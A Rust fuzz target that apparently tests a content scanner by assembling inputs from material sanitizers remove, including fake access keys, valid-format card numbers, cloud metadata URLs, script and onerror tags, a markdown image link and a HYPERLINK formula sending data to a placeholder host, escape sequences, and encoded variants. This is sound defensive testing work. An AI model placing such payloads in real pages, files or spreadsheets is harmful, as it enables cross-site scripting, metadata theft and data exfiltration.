//! Whatever leaves is clean: texts and files made of what cleaners take out, side by side, in any order. The release of
//! each is allowed when it is scanned again, and stays as it is.
#![no_main]

use arbitrary::Arbitrary;
use data_encoding::BASE64;
use libfuzzer_sys::fuzz_target;
use scanner_core::{Input, Kind};
use scanner_fuzz::{ORDER, decide, scan};

/// A piece of a text that some cleaner has to do with.
#[derive(Arbitrary, Debug)]
enum Piece<'a> {
    Plain(&'a str),
    Bytes(&'a [u8]),
    Order,
    Half { of: u8 },
    Key(u32),
    Card(u64),
    Address(&'a str),
    Tag(&'a str),
    Script(&'a str),
    Link(&'a str),
    Sequence(u8, &'a str),
    Hidden(char),
    Encoded(Box<Piece<'a>>),
    Hex(Box<Piece<'a>>),
    Quoted(Box<Piece<'a>>),
    Twice(Box<Piece<'a>>),
    Formula(&'a str),
    Fence(&'a str),
}

#[derive(Arbitrary, Debug)]
struct Made<'a> {
    kind: u8,
    pieces: Vec<Piece<'a>>,
}

impl Piece<'_> {
    fn write(&self, depth: u8, out: &mut Vec<u8>) {
        let inner = |piece: &Self| {
            let mut inner = Vec::new();
            if depth < 6 {
                piece.write(depth + 1, &mut inner);
            }
            inner
        };
        match self {
            Self::Plain(text) => out.extend_from_slice(text.as_bytes()),
            Self::Bytes(bytes) => out.extend_from_slice(bytes),
            Self::Order => out.extend_from_slice(ORDER.as_bytes()),
            Self::Half { of } => {
                let (first, second) = ORDER.split_at(usize::from(*of) % ORDER.len());
                out.extend_from_slice(if *of < 128 { first } else { second }.as_bytes());
            }
            Self::Key(number) => out.extend_from_slice(format!("AKIA{number:016}").replace('0', "Q").as_bytes()),
            Self::Card(number) => {
                let body = format!("4{:014}", number % 100_000_000_000_000);
                let sum: u32 = (0..)
                    .zip(body.bytes().rev())
                    .map(|(at, digit)| {
                        let digit = u32::from(digit - b'0') * if at % 2 == 0 { 2 } else { 1 };
                        digit / 10 + digit % 10
                    })
                    .sum();
                out.extend_from_slice(format!("{body}{}", (10 - sum % 10) % 10).as_bytes());
            }
            Self::Address(path) => out.extend_from_slice(format!("http://169.254.169.254/{path}").as_bytes()),
            Self::Tag(text) => out.extend_from_slice(format!("<img src=x onerror='{text}'>").as_bytes()),
            Self::Script(text) => out.extend_from_slice(format!("<script>{text}</script>").as_bytes()),
            Self::Link(text) => out.extend_from_slice(format!("![{text}](https://a.example/?q={text})").as_bytes()),
            Self::Sequence(last, text) => out.extend_from_slice(format!("\x1b[{text}{}", char::from(*last)).as_bytes()),
            Self::Hidden(character) => out.extend_from_slice(character.to_string().as_bytes()),
            Self::Encoded(piece) => out.extend_from_slice(BASE64.encode(&inner(piece)).as_bytes()),
            Self::Hex(piece) => {
                inner(piece).iter().for_each(|byte| out.extend_from_slice(format!("{byte:02x}").as_bytes()))
            }
            Self::Quoted(piece) => {
                let text = String::from_utf8_lossy(&inner(piece)).into_owned();
                out.extend_from_slice(serde_json::Value::from(text).to_string().as_bytes());
            }
            Self::Twice(piece) => out.extend_from_slice(&inner(piece).repeat(2)),
            Self::Formula(text) => {
                out.extend_from_slice(format!("\n=HYPERLINK(\"http://a.example/\",{text}),1,2\n").as_bytes())
            }
            Self::Fence(text) => out.extend_from_slice(format!("\n```{text}\n").as_bytes()),
        }
    }
}

fuzz_target!(|made: Made<'_>| {
    let mut bytes = Vec::new();
    for piece in &made.pieces {
        piece.write(0, &mut bytes);
        if bytes.len() > 32 << 10 {
            return;
        }
    }
    let (name, kind) = match made.kind % 6 {
        0 => ("a.txt", Kind::Text),
        1 => ("a.html", Kind::File),
        2 => ("a.md", Kind::File),
        3 => ("a.csv", Kind::File),
        4 => ("a.svg", Kind::File),
        _ => ("a.txt", Kind::File),
    };
    let start: &[u8] = match name {
        "a.html" => b"<!DOCTYPE html>\n<html><body>",
        "a.svg" => b"<svg xmlns='http://www.w3.org/2000/svg'>",
        "a.csv" => b"a,b,c\n1,2,3\n",
        _ => b"",
    };
    let mut input = Input::file(name, [start, &bytes].concat());
    input.kind = kind;
    decide(&scan(&input), &input);
});
